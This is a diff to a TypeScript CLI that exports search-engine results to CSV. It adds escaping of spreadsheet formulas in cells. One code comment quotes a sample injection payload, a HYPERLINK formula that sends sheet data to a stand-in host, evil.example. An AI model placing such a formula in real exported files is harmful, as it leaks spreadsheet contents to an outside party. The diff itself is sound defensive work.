@@ -110,6 +110,25 @@ const domainOf = (link: string) => {
   }
 };
 
+const CSV_HEADER = ['keyword', 'position', 'title', 'link', 'domain'];
+
+/**
+ * A keyword's CSV rows, one per organic result. Keywords, titles and links are anyone's text: a cell that starts
+ * with `=`, `+`, `-`, `@`, a tab or a carriage return would be a live formula in a spreadsheet (a keyword
+ * `=HYPERLINK("http://evil.example/?"&A1,"click")` leaks the sheet), so such a cell gets a leading `'`
+ * (csv-stringify's `escape_formulas`).
+ */
+export const csvRows = (
+  keyword: string,
+  organic: ReadonlyArray<{ position: number; title: string; link: string }>,
+): string =>
+  organic.length === 0
+    ? ''
+    : stringify(
+        organic.map((r) => [keyword, r.position, r.title, r.link, domainOf(r.link)]),
+        { escape_formulas: true },
+      );
+
 export const registerSearchCommands = (program: Command) => {
   const clientOptions = (c: Command) =>
     c
@@ -188,8 +207,7 @@ export const registerSearchCommands = (program: Command) => {
             `serp-api: warning: ${fresh} searches to submit but ${usage.remaining} left this month: the batch stops when the quota runs out (resume next month)`,
           );
         }
-        if (csv && !existsSync(o.out))
-          appendFileSync(o.out, stringify([['keyword', 'position', 'title', 'link', 'domain']]));
+        if (csv && !existsSync(o.out)) appendFileSync(o.out, stringify([CSV_HEADER]));
         const record = (s: Record<string, string>) => appendFileSync(statePath, `${JSON.stringify(s)}\n`);
 
         const total = keywords.length;
@@ -271,14 +289,8 @@ export const registerSearchCommands = (program: Command) => {
                 };
                 const status = result.search_metadata?.status ?? 'failed';
                 if (csv) {
-                  const rows = (result.organic_results ?? []).map((r) => [
-                    keyword,
-                    r.position,
-                    r.title,
-                    r.link,
-                    domainOf(r.link),
-                  ]);
-                  if (rows.length) appendFileSync(o.out, stringify(rows));
+                  const rows = csvRows(keyword, result.organic_results ?? []);
+                  if (rows) appendFileSync(o.out, rows);
                 } else {
                   appendFileSync(o.out, `${JSON.stringify({ keyword, job_id: jobId, status, result })}\n`);
                 }
